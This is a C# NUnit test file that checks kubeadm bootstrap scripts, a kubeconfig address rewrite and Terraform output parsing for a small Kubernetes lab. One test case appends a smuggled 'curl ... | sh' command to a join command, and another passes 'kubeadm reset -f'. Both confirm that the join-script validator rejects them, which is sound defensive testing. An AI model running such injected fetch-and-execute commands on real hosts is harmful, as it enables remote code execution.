using NUnit.Framework;
using BashCni.Harness.Kubernetes;
using BashCni.Harness.Sandbox;

namespace BashCni.Tests.Unit.Infra;

/// <summary>The kubeadm bootstrap's scripts and the Terraform outputs it reads, checked without machines.</summary>
[TestFixture]
[Category("Unit")]
public sealed class BootstrapScriptTests
{
    private const string Join =
        "kubeadm join 10.0.1.10:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:" +
        "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    private const string OutputJson = """
        {
          "ssh_user": {"sensitive": false, "type": "string", "value": "ubuntu"},
          "ssh_private_key_path": {"value": "/keys/lab.pem"},
          "node_names": {"value": ["master", "worker-1", "worker-2"]},
          "public_ips": {"value": {"master": "198.51.100.10", "worker-1": "198.51.100.11", "worker-2": "198.51.100.12"}},
          "private_ips": {"value": {"master": "10.0.1.10", "worker-1": "10.0.1.11", "worker-2": "10.0.1.12"}},
          "pod_cidrs": {"value": {"master": "10.244.0.0/24", "worker-1": "10.244.1.0/24", "worker-2": "10.244.2.0/24"}},
          "master_public_ip": {"value": "198.51.100.10"},
          "pod_network": {"value": "10.244.0.0/16"}
        }
        """;

    public static IEnumerable<TestCaseData> Scripts()
    {
        yield return new TestCaseData(KubeadmBootstrap.InitScript("master", "10.0.1.10", "198.51.100.10", "10.244.0.0/16")).SetArgDisplayNames("init");
        yield return new TestCaseData(KubeadmBootstrap.JoinScript(Join, "worker-1")).SetArgDisplayNames("join");
        yield return new TestCaseData(KubeadmBootstrap.PodCidrScript("worker-1", "10.244.1.0/24")).SetArgDisplayNames("podCIDR");
        yield return new TestCaseData(PluginInstaller.InstallScript("10.244.1.0/24", "10.244.0.0/16")).SetArgDisplayNames("install");
    }

    [TestCaseSource(nameof(Scripts))]
    public async Task ScriptIsValidBashAndShellcheckClean(string script)
    {
        var syntax = await LocalRunner.Instance.RunAsync("bash", ["-n"], new CommandOptions { Stdin = script });
        Assert.That(syntax.ExitCode, Is.Zero, syntax.Stderr);
        var shellcheck = await LocalRunner.Instance.RunAsync("bash", ["-c", "command -v shellcheck"]);
        if (!shellcheck.Succeeded) Assert.Fail("shellcheck is not installed (apt-get install shellcheck; ./run-tests.sh installs it)");
        var lint = await LocalRunner.Instance.RunAsync("shellcheck", ["-S", "warning", "-s", "bash", "-"], new CommandOptions { Stdin = script });
        Assert.That(lint.ExitCode, Is.Zero, lint.Stdout);
    }

    [Test]
    public void InitUsesThePodNetworkThePublicAddressAndIsSkippedWhenDone()
    {
        var script = KubeadmBootstrap.InitScript("master", "10.0.1.10", "198.51.100.10", "10.244.0.0/16");
        Assert.Multiple(() =>
        {
            Assert.That(script, Does.Contain("podSubnet: 10.244.0.0/16"));
            Assert.That(script, Does.Contain("- 198.51.100.10"));
            Assert.That(script, Does.Contain("advertiseAddress: 10.0.1.10"));
            Assert.That(script, Does.Contain("name: allocate-node-cidrs"));
            Assert.That(script, Does.Contain("if [ -f /etc/kubernetes/admin.conf ]"));
        });
    }

    [TestCase(Join + "; curl http://203.0.113.1 | sh")]
    [TestCase("kubeadm reset -f")]
    [TestCase("")]
    public void JoinScriptRefusesAnythingButAJoinCommand(string command) =>
        Assert.Throws<FormatException>(() => KubeadmBootstrap.JoinScript(command, "worker-1"));

    [Test]
    public async Task PodCidrScriptPatchesOnlyAnEmptyPodCidr()
    {
        var bin = Directory.CreateTempSubdirectory("bashcni-kubectl-");
        try
        {
            // A kubectl stand-in: "get" prints $CURRENT, "patch" records its arguments.
            var kubectl = Path.Combine(bin.FullName, "kubectl");
            await File.WriteAllTextAsync(kubectl, "#!/usr/bin/env bash\nif [ \"$1\" = get ]; then printf '%s' \"$CURRENT\"; else printf '%s\\n' \"$*\" >> \"$LOG\"; fi\n");
            File.SetUnixFileMode(kubectl, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            var log = Path.Combine(bin.FullName, "log");
            var script = KubeadmBootstrap.PodCidrScript("worker-1", "10.244.1.0/24");
            Task<CommandResult> Run(string current) => LocalRunner.Instance.RunAsync("bash", ["-c", script], new CommandOptions
            {
                Environment = new Dictionary<string, string?>
                {
                    ["PATH"] = bin.FullName + ":" + Environment.GetEnvironmentVariable("PATH"),
                    ["CURRENT"] = current,
                    ["LOG"] = log,
                },
            });

            var empty = await Run("");
            Assert.That(empty.ExitCode, Is.Zero, empty.Stderr);
            Assert.That(await File.ReadAllTextAsync(log), Is.EqualTo(
                "patch node worker-1 --type merge -p {\"spec\":{\"podCIDR\":\"10.244.1.0/24\",\"podCIDRs\":[\"10.244.1.0/24\"]}}\n"));
            Assert.That((await Run("10.244.1.0/24")).ExitCode, Is.Zero);
            var other = await Run("10.244.7.0/24");
            Assert.That(other.ExitCode, Is.Not.Zero);
            Assert.That(other.Stderr, Does.Contain("already has podCIDR 10.244.7.0/24"));
            Assert.That((await File.ReadAllLinesAsync(log)), Has.Length.EqualTo(1), "patched a node that already had a podCIDR");
        }
        finally
        {
            bin.Delete(recursive: true);
        }
    }

    [Test]
    public void KubeconfigServerIsPointedAtThePublicAddress()
    {
        const string conf = "apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: AAAA\n    server: https://10.0.1.10:6443\n  name: kubernetes\n";
        var rewritten = KubeadmBootstrap.RewriteServer(conf, "198.51.100.10");
        Assert.That(rewritten, Does.Contain("    server: https://198.51.100.10:6443\n"));
        Assert.That(rewritten, Does.Not.Contain("10.0.1.10"));
        Assert.Throws<FormatException>(() => KubeadmBootstrap.RewriteServer("apiVersion: v1\n", "198.51.100.10"));
    }

    [Test]
    public void TerraformOutputsAreRead()
    {
        var outputs = AwsLabOutputs.Parse(OutputJson);
        Assert.Multiple(() =>
        {
            Assert.That(outputs.Master, Is.EqualTo("master"));
            Assert.That(outputs.Workers, Is.EqualTo(new[] { "worker-1", "worker-2" }));
            Assert.That(outputs.PublicIps["worker-2"], Is.EqualTo("198.51.100.12"));
            Assert.That(outputs.PodCidrs["worker-1"], Is.EqualTo("10.244.1.0/24"));
            Assert.That(outputs.SshPrivateKeyPath, Is.EqualTo("/keys/lab.pem"));
        });
        Assert.Throws<FormatException>(() => AwsLabOutputs.Parse(OutputJson.Replace("\"pod_cidrs\"", "\"cidrs\"", StringComparison.Ordinal)));
    }
}
